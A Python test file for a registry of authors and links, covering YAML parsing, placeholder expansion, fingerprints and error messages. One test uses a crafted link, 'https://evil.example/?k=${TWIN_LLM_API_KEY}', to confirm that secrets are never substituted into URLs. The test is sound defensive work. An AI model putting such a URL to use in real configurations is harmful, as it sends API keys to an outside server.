"""The author registry file: parsing, placeholders, and precise errors."""

from __future__ import annotations

import pytest

from twin_assets.authors.registry import RegistryError, author_fingerprint, load_registry, parse_registry
from twin_assets.defs.resources import build_resources, registry_placeholders
from twin_assets.paths import PROJECT_ROOT


def test_bundled_registry_expands_placeholders():
    (author,) = load_registry(
        PROJECT_ROOT / "authors.yaml", {"TWIN_SAMPLE_SITE_URL": "http://127.0.0.1:9999"}
    )
    assert author.id == "maya-kowalski"
    assert author.links[0].url == "http://127.0.0.1:9999/medium/@mayakowalski/"
    assert {str(link.kind) for link in author.links} == {"web", "export", "git"}


def test_placeholders_come_from_the_configuration_not_the_environment(monkeypatch):
    """The registry module never reads the environment: the values reach it through the
    resource, which `build_resources` fills from the environment."""
    monkeypatch.setenv("TWIN_SAMPLE_SITE_URL", "http://127.0.0.1:9999")
    (author,) = load_registry(PROJECT_ROOT / "authors.yaml")
    assert author.links[0].url == "http://127.0.0.1:8765/medium/@mayakowalski/"  # the default
    resource = build_resources()["authors"]
    assert resource.placeholders["TWIN_SAMPLE_SITE_URL"] == "http://127.0.0.1:9999"
    assert resource.authors()[0].links[0].url == "http://127.0.0.1:9999/medium/@mayakowalski/"
    with pytest.raises(RegistryError, match="not registry placeholders: TWIN_LLM_API_KEY"):
        parse_registry("authors: []", placeholders={"TWIN_LLM_API_KEY": "sk"})


def test_fingerprint_changes_with_links_only():
    text = "authors:\n  - id: ola\n    full_name: Ola\n    links:\n      - url: https://medium.com/@ola\n"
    (a,) = parse_registry(text)
    (b,) = parse_registry(text)
    assert author_fingerprint(a) == author_fingerprint(b)
    (c,) = parse_registry(text + "      - url: https://ola.substack.com/archive\n")
    assert author_fingerprint(c) != author_fingerprint(a)


@pytest.mark.parametrize(
    "text, message",
    [
        ("authors: [", "not valid YAML"),
        ("- just a list", "expected a mapping"),
        ("authors:\n  - id: Not A Slug\n    full_name: X\n", "lowercase slug"),
        ("authors:\n  - id: a\n    full_name: A\n  - id: a\n    full_name: B\n", "appears twice"),
        ("authors:\n  - id: a\n    full_name: A\n    links:\n      - url: ${NOPE_VAR}/x\n", "NOPE_VAR"),
    ],
)
def test_invalid_registries_fail_precisely(text, message):
    with pytest.raises(RegistryError, match=message):
        parse_registry(text, source="test.yaml")


def test_only_documented_placeholders_are_expanded_never_secrets():
    """A registry edit must not be able to send an environment secret to a server it names."""
    environ = {"TWIN_LLM_API_KEY": "sk-very-secret", "TWIN_DATA_DIR": "/srv/twin"}
    placeholders = registry_placeholders(environ)
    assert placeholders == {"TWIN_DATA_DIR": "/srv/twin"}
    text = (
        "authors:\n  - id: a\n    full_name: A\n    links:\n"
        "      - url: https://evil.example/?k=${TWIN_LLM_API_KEY}\n"
    )
    with pytest.raises(RegistryError, match="TWIN_LLM_API_KEY") as err:
        parse_registry(text, placeholders=placeholders)
    assert "sk-very-secret" not in str(err.value)
    assert "${TWIN_DATA_DIR}" in str(err.value) and "${TWIN_SAMPLE_SITE_URL}" in str(err.value)
    (author,) = parse_registry(
        text.replace("https://evil.example/?k=${TWIN_LLM_API_KEY}", "${TWIN_DATA_DIR}/exports/x.zip"),
        placeholders=placeholders,
    )
    assert author.links[0].url == "/srv/twin/exports/x.zip"  # documented ones: from the configuration
